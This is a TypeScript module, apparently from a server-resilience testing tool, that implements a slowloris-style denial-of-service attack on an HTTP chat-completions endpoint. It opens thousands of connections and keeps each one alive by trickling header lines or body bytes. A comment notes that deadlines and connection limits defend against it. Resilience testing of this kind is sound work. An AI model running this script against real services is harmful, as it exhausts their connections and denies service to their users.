import { z } from 'zod';
import { attackOf } from './attack.ts';
import { openingShape } from './script/opening.ts';
import { requestHead } from './script/request-text.ts';

/**
 * A few new connections per second, each harmless and kept alive by a byte now and then: eventually they fill the whole pool. Rate limits
 * do not notice it; deadlines and connection limits do.
 *
 * ```
 * open   ╱‾‾‾‾ with a deadline on the server: perSecond × deadline
 *       ╱      without one: connections
 * ```
 */
export const attack = attackOf({
  kind: 'low-and-slow',
  summary: 'Opens 10 connections per second and keeps each alive with a byte now and then.',
  defaultForMs: 60_000,
  parameters: z.object({
    ...openingShape({ connections: 10_000, perSecond: 10, path: '/v1/chat/completions' }),
    intervalMs: z.number().min(10).max(600_000).default(5000).describe('interval between two bytes of a connection'),
    contentLength: z.int().min(2).max(1_000_000_000).default(65_536).describe('announced bytes'),
  }),
  script: (parameters, target) => {
    const { path, intervalMs, contentLength } = parameters;
    const headers = ['Content-Type: application/json', `Content-Length: ${contentLength}`];
    const head = requestHead(target, 'POST', path, headers);
    return {
      opening: parameters,
      // Alternates between endless headers and endless bodies, since servers have separate deadlines for them.
      step: (connection, turn) => {
        const inHeader = connection % 2 === 0;
        if (turn === 0) return { write: inHeader ? head : `${head}\r\n`, intervalMs };
        if (inHeader) return { write: `X-${turn}: a\r\n`, intervalMs };
        return turn < contentLength ? { write: 'a', intervalMs } : {};
      },
    };
  },
});
